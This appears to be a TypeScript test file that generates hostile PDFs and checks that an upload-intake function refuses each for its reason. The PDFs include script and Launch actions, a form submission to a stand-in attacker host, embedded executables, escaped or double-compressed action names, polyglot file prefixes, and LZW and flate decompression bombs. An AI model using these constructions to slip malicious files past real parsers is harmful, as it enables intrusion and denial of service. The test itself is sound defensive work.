/** PDFs of attackers, each with its verdict: none with content that acts, hides or grows is accepted. */
import { deflateSync } from 'node:zlib';
import {
  PDFArray,
  type PDFContext,
  type PDFDict,
  PDFDocument,
  PDFName,
  type PDFObject,
  PDFRawStream,
  type PDFRef,
  PDFString,
} from '@cantoo/pdf-lib';
import { DomainError } from '@estrada/domain/errors/index';
import { longRun, type SeededRandom } from '@estrada/testkit/index';
import { it } from 'vitest';
import { acceptFile } from '../../src/modules/documents/intake/accept-file.ts';
import { pdf, unusualPdfs } from '../documents/sample-files.ts';
import { compareVerdicts, type Hostility, type Verdict } from './verdicts.ts';

const { seed, runs, random, timeoutMs } = longRun(6, 261);

/** A PDF of one to three pages after a change of its objects, written with or without object streams. */
async function changed(
  one: SeededRandom,
  change: (document: PDFDocument, context: PDFContext) => void,
): Promise<Buffer> {
  const document = await PDFDocument.load(await pdf(1 + one.below(3)), { updateMetadata: false });
  change(document, document.context);
  return Buffer.from(await document.save({ useObjectStreams: one.next() < 0.5 }));
}
const dictOf = (context: PDFContext, values: Record<string, unknown>): PDFDict =>
  context.obj(values as never) as unknown as PDFDict;
const somePage = (document: PDFDocument, { below }: SeededRandom) =>
  document.getPage(below(document.getPageCount())).node;

/** Actions that run, send or start something. */
const actions: Readonly<Record<string, Record<string, unknown>>> = {
  JavaScript: { JS: PDFString.of('app.alert(1)') },
  Launch: { F: PDFString.of('cmd.exe') },
  SubmitForm: { F: PDFString.of('https://evil.example') },
  ImportData: { F: PDFString.of('data.fdf') },
  GoToR: { F: PDFString.of('other.pdf'), D: [0] },
  Rendition: { OP: 0 },
  Movie: { T: PDFString.of('film') },
  RichMediaExecute: {},
  GoTo3DView: {},
};
type Place = (document: PDFDocument, action: PDFObject, one: SeededRandom) => void;
/** Where a viewer finds an action. */
const places: readonly Place[] = [
  ({ catalog }, action) => catalog.set(PDFName.of('OpenAction'), action),
  ({ catalog, context }, action) => catalog.set(PDFName.of('AA'), context.obj({ WC: action } as never)),
  (document, action, one) =>
    somePage(document, one).set(PDFName.of('AA'), document.context.obj({ O: action } as never)),
  (document, action, one) => annotate(document, { Subtype: 'Link', A: action }, one),
  (document, action, one) => annotate(document, { Subtype: 'Widget', FT: 'Tx', AA: { K: action } }, one),
  ({ catalog, context }, action) => {
    const item = context.register(context.obj({ Title: PDFString.of('1'), A: action } as never));
    catalog.set(PDFName.of('Outlines'), context.obj({ Type: 'Outlines', First: item, Last: item, Count: 1 } as never));
  },
  // after an action that is allowed
  ({ catalog, context }, action) =>
    catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'GoTo', D: [0], Next: [action] } as never)),
  // nothing points at it yet: a change that is appended later could
  ({ context }, action) => void context.register(action),
];
function annotate(document: PDFDocument, note: Record<string, unknown>, one: SeededRandom): void {
  const { context } = document;
  const made = context.obj({ Type: 'Annot', Rect: [0, 0, 9, 9], ...note } as never);
  somePage(document, one).set(PDFName.of('Annots'), context.obj([context.register(made)]));
}
const acting = (names: readonly string[]) => (one: SeededRandom) =>
  changed(one, (document, context) => {
    const name = one.pick(names);
    const action = context.obj({ S: name, ...actions[name] } as never);
    one.pick(places)(document, one.next() < 0.5 ? context.register(action) : action, one);
  });

/** One letter of a name written as its number (`/Java#53cript`). */
async function escaped(one: SeededRandom): Promise<Buffer> {
  const name = one.pick(['JavaScript', 'Launch', 'SubmitForm', 'ImportData', 'GoToR', 'EmbeddedFiles']);
  const at = one.below(name.length);
  const code = name.charCodeAt(at).toString(16);
  const written = `/${name.slice(0, at)}#${one.next() < 0.5 ? code : code.toUpperCase()}${name.slice(at + 1)}`;
  const text = (await pdf(1)).toString('latin1');
  return Buffer.from(
    text.replace('/Type /Catalog', `/Type /Catalog ${written} null /OpenAction << /S ${written} >>`),
    'latin1',
  );
}

/** An action in an object stream that is packed twice, or written in digits. The library writes none: it is inserted. */
async function packed({ pick }: SeededRandom): Promise<Buffer> {
  const offset = '900 0 ';
  const plain = Buffer.from(`${offset}<< /S /${pick(['JavaScript', 'Launch', 'Submit#46orm'])} /F (x) >>`);
  const [filter, content] = pick([
    ['/FlateDecode', deflateSync(plain)],
    ['[/FlateDecode /FlateDecode]', deflateSync(deflateSync(plain))],
    ['/ASCIIHexDecode', Buffer.from(`${plain.toString('hex')}>`)],
    ['[/ASCIIHexDecode /FlateDecode]', Buffer.from(`${deflateSync(plain).toString('hex')}>`)],
  ] as const);
  const text = (await pdf(1)).toString('latin1').replace('/Type /Catalog', '/Type /Catalog /OpenAction 900 0 R');
  const head = `800 0 obj\n<< /Type /ObjStm /N 1 /First ${offset.length} /Filter ${filter} /Length ${content.length} >>\nstream\n`;
  const at = text.indexOf('1 0 obj', text.indexOf('endobj'));
  const stream = `${head}${content.toString('latin1')}\nendstream\nendobj\n`;
  const place = text.lastIndexOf('\n', at) + 1;
  return Buffer.from(`${text.slice(0, place)}${stream}${text.slice(place)}`, 'latin1');
}

const embedding = (one: SeededRandom) =>
  changed(one, (document, context) => {
    const file = PDFRawStream.of(dictOf(context, { Type: 'EmbeddedFile' }), Buffer.from('MZ'));
    const spec = context.obj({
      Type: 'Filespec',
      F: PDFString.of('a.exe'),
      EF: { F: context.register(file) },
    } as never);
    const held = context.register(spec);
    one.pick([
      () => document.catalog.set(PDFName.of('AF'), context.obj([held])),
      () =>
        document.catalog.set(
          PDFName.of('Names'),
          context.obj({ EmbeddedFiles: { Names: [PDFString.of('a'), held] } } as never),
        ),
      () => annotate(document, { Subtype: 'FileAttachment', FS: held }, one),
      () => document.catalog.set(PDFName.of('Collection'), context.obj({})),
      () => document.catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'GoToE', T: {} } as never)),
    ])();
  });

const locked = ({ pick, below }: SeededRandom) => {
  const word = `p${below(9_999)}`;
  const pdfVersion = pick(['1.4', '1.7', '1.7ext3'] as const);
  return pdf(
    1 + below(3),
    pick([
      { userPassword: word, pdfVersion },
      { ownerPassword: word, pdfVersion },
    ]),
  );
};

/** An object defined a second time, before or behind the one that viewers read. */
const twice = (contents: readonly string[]) => async (one: SeededRandom) => {
  const text = (await pdf(1 + one.below(3))).toString('latin1');
  const [, number] = one.pick([...text.matchAll(/(?:^|\n)(\d+) 0 obj/g)]);
  const at = text.search(new RegExp(`(?<=^|\\n)${number} 0 obj`));
  const place = one.next() < 0.5 ? at : text.indexOf('endobj', at) + 'endobj\n'.length;
  return Buffer.from(
    `${text.slice(0, place)}${number} 0 obj\n${one.pick(contents)}\nendobj\n${text.slice(place)}`,
    'latin1',
  );
};

const others = [
  '<html><script>alert(1)</script>',
  'PK\u0003\u0004',
  '\u0089PNG\r\n',
  'MZ\u0090',
  '<?php system(1); ?>',
  '#!/bin/sh\n',
];
const behind = async (one: SeededRandom) =>
  Buffer.concat([await pdf(1), Buffer.from(`${one.pick(['', '\n', '\0\0'])}${one.pick(others)}`, 'latin1')]);
const before = async (one: SeededRandom) => Buffer.concat([Buffer.from(one.pick(others), 'latin1'), await pdf(1)]);

const contentOf = (bytes: number) => deflateSync(Buffer.alloc(bytes, ' '));
const growing = (one: SeededRandom) =>
  changed(one, (document, context) => {
    const dict = dictOf(context, { Filter: 'FlateDecode' });
    const stream = PDFRawStream.of(dict, contentOf((33 + one.below(300)) * 1024 * 1024));
    somePage(document, one).set(PDFName.of('Contents'), context.register(stream));
  });
const growingTwice = (one: SeededRandom) =>
  changed(one, (document, context) => {
    const dict = dictOf(context, { Filter: ['FlateDecode', 'FlateDecode'] });
    const stream = PDFRawStream.of(dict, deflateSync(contentOf((33 + one.below(300)) * 1024 * 1024)));
    somePage(document, one).set(PDFName.of('Contents'), context.register(stream));
  });
/** Content that other filters expand: written in digits or letters, by runs, or by codes for ever longer texts. */
const growingOtherwise = (one: SeededRandom) =>
  changed(one, (document, context) => {
    const size = (33 + one.below(100)) * 1024 * 1024;
    const [filter, content] = one.pick<() => readonly [string[], Uint8Array]>([
      () => [['ASCIIHexDecode', 'FlateDecode'], Buffer.from(`${contentOf(size).toString('hex')}>`)],
      () => [['AHx', 'Fl'], Buffer.from(`${contentOf(size).toString('hex')}>`)],
      () => [['RunLengthDecode'], Buffer.alloc(size / 64, Buffer.from([129, 32]))],
      () => [['FlateDecode', 'RunLengthDecode'], deflateSync(Buffer.alloc(size / 64, Buffer.from([129, 32])))],
      () => [['LZWDecode'], longerAndLonger(size)],
    ])();
    const stream = PDFRawStream.of(dictOf(context, { Filter: filter }), content);
    somePage(document, one).set(PDFName.of('Contents'), context.register(stream));
  });
/** LZW in which each code stands for one space more than the code before. */
function longerAndLonger(size: number): Uint8Array {
  const bytes: number[] = [];
  let [held, bits] = [0, 0];
  const write = (code: number, width: number) => {
    held = (held << width) | code;
    for (bits += width; bits >= 8; bits -= 8) bytes.push((held >> (bits - 8)) & 255);
    held &= (1 << bits) - 1;
  };
  for (let length = 0; length <= size; ) {
    write(256, bytes.length === 0 ? 9 : 12);
    write(32, 9);
    // codes become wider one code early
    for (let code = 258; code < 4_093; code++) {
      write(code, Math.min(12, 32 - Math.clz32(code + 1)));
      length += code - 256;
    }
  }
  return Uint8Array.from(bytes);
}
/** Pictures within the limit of one, and beyond that of all together; or one beyond its own. */
const growingPictures = (one: SeededRandom) =>
  changed(one, (_document, context) => {
    const isOne = one.next() < 0.5;
    const content = contentOf((isOne ? 161 : 150) * 1024 * 1024);
    for (let picture = isOne ? 1 : 3; picture > 0; picture--) {
      const shape = { Subtype: 'Image', Width: 9_000, Height: 9_000, BitsPerComponent: 8, ColorSpace: 'DeviceGray' };
      context.register(PDFRawStream.of(dictOf(context, { ...shape, Filter: 'FlateDecode' }), content));
    }
  });

/** A page behind many levels, or behind a level that leads back to an earlier one. */
const deep = (isCycle: boolean) => (one: SeededRandom) =>
  changed(one, (document, context) => {
    const { catalog } = document;
    const top = catalog.get(PDFName.of('Pages')) as PDFRef;
    let kid: PDFRef = top;
    for (let level = isCycle ? 1 + one.below(5) : 33 + one.below(400); level > 0; level--)
      kid = context.register(context.obj({ Type: 'Pages', Count: document.getPageCount(), Kids: [kid] } as never));
    if (isCycle) {
      const kids = (context.lookup(top) as PDFDict).lookup(PDFName.of('Kids'), PDFArray);
      kids.push(kid);
    } else catalog.set(PDFName.of('Pages'), kid);
  });

const half = async ({ below }: SeededRandom) => {
  const bytes = await pdf(2);
  return bytes.subarray(0, 8 + below(bytes.length - 16));
};
const noise = ({ below }: SeededRandom) =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(Array.from({ length: below(4_000) }, () => below(256)))]);

/** What is appended to a PDF as a change of its own, as programs do that save quickly. */
const appended = async ({ pick }: SeededRandom) => {
  const text = (await pdf(1)).toString('latin1');
  const start = /startxref\n(\d+)/.exec(text)![1];
  const root = /\/Root (\d+) 0 R/.exec(text)![1];
  const old = new RegExp(`(?:^|\\n)${root} 0 obj\n<<([\\s\\S]*?)>>\nendobj`).exec(text)![1];
  const action = pick(['/S /Launch /F (cmd.exe)', '/S /JavaScript /JS (1)', '/S /GoToR /F (x.pdf)']);
  const object = `${root} 0 obj\n<<${old}/OpenAction << ${action} >> >>\nendobj\n`;
  const table = `xref\n${root} 1\n${String(text.length).padStart(10, '0')} 00000 n \n`;
  const trailer = `trailer\n<< /Size ${/\/Size (\d+)/.exec(text)![1]} /Root ${root} 0 R /Prev ${start} >>\n`;
  return Buffer.from(`${text}${object}${table}${trailer}startxref\n${text.length + object.length}\n%%EOF\n`, 'latin1');
};

const active = ['document.pdfActive'];
const kinds: readonly Hostility<Buffer>[] = [
  ['a script', acting(['JavaScript']), active],
  ['a program that is started', acting(['Launch']), active],
  ['a form that is sent or filled in', acting(['SubmitForm', 'ImportData']), active],
  ['a jump into another file', acting(['GoToR']), active],
  ['a film, a sound or a scene', acting(['Rendition', 'Movie', 'RichMediaExecute', 'GoTo3DView']), active],
  ['the name of an action with an escaped letter', escaped, [...active, 'document.pdfEmbedded']],
  ['an action in an object stream of several filters', packed, [...active, 'document.damaged']],
  ['an action in an appended change', appended, active],
  ['a file within it', embedding, ['document.pdfEmbedded']],
  ['a password or protection', locked, ['document.pdfProtected']],
  ['two copies of an object', twice(['<< /Type /Font >>', '(x)', 'null']), ['document.pdfAmbiguous']],
  [
    'an action in one of two copies',
    twice(['<< /S /Launch >>', '<< /S /Import#44ata >>', '<< /S /JavaScript >>']),
    active,
  ],
  ['another file behind its end', behind, ['document.pdfAmbiguous']],
  ['another file before its beginning', before, ['document.type', 'document.damaged']],
  ['content that expands to 33 – 333 MB', growing, ['document.tooLarge']],
  ['content packed twice, that expands so', growingTwice, ['document.tooLarge']],
  ['content of other filters that expands to 33 – 133 MB', growingOtherwise, ['document.tooLarge']],
  ['pictures of more than 160 MB, or 400 MB together', growingPictures, ['document.tooLarge']],
  ['pages behind 33 – 433 levels', deep(false), ['document.damaged']],
  ['pages that lead back to themselves', deep(true), ['document.damaged']],
  ['more pages than fifty', ({ below }) => pdf(51 + below(40)), ['document.pdfTooLong']],
  ['a part of a PDF', half, ['document.damaged']],
  ['noise behind its first line', noise, ['document.damaged']],
];

const verdictOf = async (file: Buffer): Promise<Verdict> => {
  const answer = await acceptFile(file).catch((error: unknown) => error);
  if (!(answer instanceof DomainError)) return answer instanceof Error ? `failed: ${answer.message}` : 'accepted';
  return answer.code === 'UPF003' ? (answer.fields?.[0]?.key ?? '') : answer.code;
};

it(`refuses ${runs} hostile PDFs, each for its reason (seed ${seed})`, { timeout: timeoutMs }, () =>
  compareVerdicts(kinds, { seed, runs, random, verdictOf }),
);

/** Without these a reader that refuses everything would pass. */
const harmless: readonly Hostility<Buffer>[] = [
  ['a harmless PDF', ({ below }) => pdf(1 + below(50)), ['accepted']],
  ['a harmless PDF of an unusual program', ({ pick }) => pick(Object.values(unusualPdfs))(), ['accepted']],
  [
    'a harmless PDF with links',
    (one) =>
      changed(one, (document, { obj }) => {
        const action = one.pick([
          { S: 'URI', URI: PDFString.of('https://example.com') },
          { S: 'GoTo', D: [0] },
        ]);
        annotate(document, { Subtype: 'Link', A: obj.call(document.context, action as never) }, one);
      }),
    ['accepted'],
  ],
];
it(`accepts harmless PDFs next to them (seed ${seed})`, { timeout: timeoutMs }, () =>
  compareVerdicts(harmless, { seed, runs: Math.ceil(runs / 9), random, verdictOf }),
);
